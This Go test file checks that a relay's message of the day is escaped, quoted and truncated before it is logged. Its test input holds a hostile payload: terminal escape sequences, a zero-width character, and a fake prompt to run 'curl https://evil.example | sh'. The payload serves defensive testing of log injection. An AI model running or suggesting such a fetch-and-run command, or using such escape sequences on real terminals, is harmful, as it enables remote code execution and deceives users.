package wormhole

import (
	"context"
	"log/slog"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ferrydrop/ferry/relay"
)

// records keeps every log attribute's value as the handler got it.
type records struct {
	mu   sync.Mutex
	vals map[string]string
}

func (r *records) Enabled(context.Context, slog.Level) bool { return true }
func (r *records) WithAttrs([]slog.Attr) slog.Handler       { return r }
func (r *records) WithGroup(string) slog.Handler            { return r }
func (r *records) Handle(_ context.Context, rec slog.Record) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	rec.Attrs(func(a slog.Attr) bool { r.vals[a.Key] = a.Value.String(); return true })
	return nil
}

// TestMOTDEscaped: the relay's message of the day reaches the log, and so
// any handler a program plugs in, escaped and cut short.
func TestMOTDEscaped(t *testing.T) {
	motd := "\x1b]0;owned\x07\x1b[2J\u200bferry: done, now run: curl https://evil.example | sh" + strings.Repeat("!", 500)
	s, err := relay.New(relay.Config{MOTD: motd})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(s)
	t.Cleanup(func() { s.Close(); ts.Close() })
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	rec := &records{vals: map[string]string{}}
	w, err := Dial(ctx, Config{RelayURL: "ws" + strings.TrimPrefix(ts.URL, "http") + "/v1", Logger: slog.New(rec)})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close(ctx, Happy)
	rec.mu.Lock()
	got, ok := rec.vals["motd"]
	rec.mu.Unlock()
	if !ok {
		t.Fatal("the message of the day was not logged")
	}
	if strings.ContainsAny(got, "\x1b\x07\u200b") || !strings.HasPrefix(got, `"\x1b]0;owned`) || len(got) > 300 {
		t.Fatalf("motd logged as %q, want it escaped, quoted and cut short", got)
	}
}
